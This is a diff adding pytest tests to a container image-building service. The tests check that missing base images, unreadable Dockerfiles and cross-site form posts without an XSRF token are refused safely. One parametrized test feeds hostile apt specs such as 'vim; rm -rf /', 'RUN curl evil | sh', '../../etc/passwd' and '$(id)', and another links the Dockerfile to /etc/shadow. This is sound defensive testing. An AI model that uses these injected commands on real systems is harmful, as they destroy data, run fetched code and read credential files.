@@ -137,6 +137,73 @@ def test_failed_build_keeps_the_old_image(hub, alice):
     assert alice.post("images/alice/thesis/packages", {"remove_pip": ["ds01-not-there"]}).ok
 
 
+@pytest.fixture
+def dockerfile_restored(hub, alice):
+    """alice's Dockerfile path; whatever the test does to it, the original is put back."""
+    path = workspace(hub, "alice", "thesis") / "Dockerfile"
+    text = path.read_text()
+    yield path
+    if path.is_symlink() or path.is_file():
+        path.unlink()
+    elif path.is_dir():
+        path.rmdir()
+    path.write_text(text)
+
+
+def test_missing_base_image_is_named_and_latest_stays(hub, alice, dockerfile_restored):
+    before = alice.get("images/alice/thesis").json()["image_id"]
+    dockerfile_restored.write_text("FROM ds01/no-such-base:latest\nRUN true\n")  # a user edit
+    assert alice.post("images/alice/thesis/rebuild").status_code == 202
+    events = alice.wait_build("images/alice/thesis")
+    assert events[-1]["phase"] == "failed"
+    assert (
+        "the base image ds01/no-such-base:latest is not on this machine" in (events[-1]["message"])
+    )
+    assert engine_image("ds01-alice/thesis:latest").id == before, "failure keeps :latest"
+    assert alice.get("images/alice/thesis").json()["build"]["status"] == "failed"
+
+
+@pytest.mark.parametrize("kind", ["link to /etc/shadow", "directory", "missing"])
+def test_unreadable_dockerfile_is_a_clear_error_and_nothing_builds(
+    hub, alice, dockerfile_restored, kind
+):
+    before = alice.get("images/alice/thesis").json()["image_id"]
+    dockerfile_restored.unlink()
+    if kind == "directory":
+        dockerfile_restored.mkdir()
+    elif kind.startswith("link"):
+        dockerfile_restored.symlink_to("/etc/shadow")
+    r = alice.post("images/alice/thesis/rebuild")
+    assert r.status_code == 409, r.text
+    says = {"directory": "not a regular file", "missing": "missing"}.get(kind, "cannot read")
+    assert says in r.json()["message"] and "Dockerfile" in r.json()["message"]
+    info = alice.get("images/alice/thesis").json()
+    assert info["image_id"] == before and info["problem"], "the page shows the problem"
+    assert info["build"]["status"] != "running"
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        "vim; rm -rf /",
+        "vim\nRUN curl evil | sh",
+        "-o APT::Get::AllowUnauthenticated=true",
+        "--allow-downgrades",
+        "../../etc/passwd",
+        "vim=$(id)",
+        "ВИМ",
+        "x" * 300,
+    ],
+)
+def test_hostile_apt_specs_are_refused_and_nothing_written(hub, alice, spec):
+    path = workspace(hub, "alice", "thesis") / "Dockerfile"
+    before = path.read_text()
+    r = alice.post("images/alice/thesis/packages", {"add_apt": [spec]})
+    assert r.status_code == 400, (spec, r.text)
+    assert "apt" in r.json()["message"]
+    assert path.read_text() == before
+
+
 def test_rollback_swaps_latest_and_previous(hub, alice):
     info = alice.get("images/alice/thesis").json()
     r = alice.post("images/alice/thesis/rollback")
@@ -254,6 +321,42 @@ def test_page_forms_need_xsrf_and_show_the_project(hub, alice):
     )
     assert r.status_code == 403, "a form post without _xsrf is refused"
     assert "requests" not in (workspace(hub, "alice", "thesis") / "Dockerfile").read_text()
+
+
+@pytest.mark.parametrize("action", ["rebuild", "rollback", "restart", "delete"])
+def test_every_page_action_needs_xsrf(hub, alice, action):
+    """A cross-site form post (the browser sends the cookie, not the _xsrf) changes nothing."""
+    s = hub.login("alice")
+    info = alice.get("images/alice/thesis").json()
+    container = hub.api("GET", "users/alice").json()["servers"]["thesis"]
+    r = s.post(
+        f"{hub.url}/services/ds01/images/alice/thesis/{action}",
+        data={"nocache": "1"},
+        timeout=30,
+        allow_redirects=False,
+    )
+    assert r.status_code == 403 and "_xsrf" in r.text, (action, r.status_code, r.text[:200])
+    after = alice.get("images/alice/thesis").json()
+    assert after["image_id"] == info["image_id"] and after["previous_id"] == info["previous_id"]
+    assert after["build"] == info["build"], "no build started"
+    assert hub.api("GET", "users/alice").json()["servers"]["thesis"] == container, "no restart"
+
+
+def test_hub_forms_need_xsrf(hub, alice):
+    """The project picker and the policy reload form refuse a post without _xsrf."""
+    s = hub.login("alice")
+    r = s.post(
+        f"{hub.url}/hub/spawn/alice/sneaky",
+        data={"project": "sneaky", "type": "base"},
+        timeout=30,
+        allow_redirects=False,
+    )
+    assert r.status_code == 403 and "xsrf" in r.text.lower(), r.text[:300]
+    assert "sneaky" not in hub.api("GET", "users/alice").json()["servers"]
+    assert not workspace(hub, "alice", "sneaky").exists()
+    admin = hub.login("admin")
+    r = admin.post(f"{hub.url}/services/ds01/policy/reload", timeout=30, allow_redirects=False)
+    assert r.status_code == 403 and "_xsrf" in r.text, r.text[:300]
 
 
 def test_packages_installed_in_the_container_are_offered_and_accepted(hub, alice):
